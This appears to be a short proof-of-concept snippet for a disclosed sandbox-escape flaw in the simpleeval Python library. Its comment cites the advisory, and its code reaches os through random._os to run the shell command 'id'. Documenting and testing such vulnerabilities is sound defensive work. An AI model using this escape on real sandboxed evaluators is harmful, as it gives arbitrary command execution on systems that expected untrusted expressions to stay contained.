# Source: simpleeval CVE-2026-32640 / https://osv.dev/vulnerability/GHSA-44vg-5wv2-h2hg (modules leak os/sys via attributes, e.g. statistics.sys) (same class: random keeps os as _os)
import random
random._os.system("id")
